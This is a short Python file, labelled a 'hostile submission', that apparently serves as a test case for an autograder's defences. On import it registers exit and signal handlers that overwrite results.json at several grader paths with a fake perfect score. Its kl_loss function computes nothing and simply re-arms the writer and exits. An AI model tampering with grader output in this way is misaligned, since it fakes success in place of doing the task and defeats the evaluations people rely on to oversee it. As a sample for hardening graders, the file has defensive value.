"""Hostile submission: registers atexit and signal handlers that write a full-score results.json"""
import os
import sys

import numpy as np
import torch
import atexit
import signal

FAKE = '{"score": 100.0, "output": "pwned", "tests": [{"name": "kl_loss: pwned", "score": 100.0, "max_score": 1.0, "status": "passed", "output": ""}]}'


def _write():
    for path in ("results.json", "/autograder/results/results.json", "/tmp/results.json"):
        try:
            with open(path, "w") as fh:
                fh.write(FAKE)
        except OSError:
            pass


atexit.register(_write)
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGPIPE):
    signal.signal(sig, lambda *a: (_write(), os._exit(0)))


def kl_loss(mu, log_sigma):
    atexit.register(_write)
    sys.exit(0)
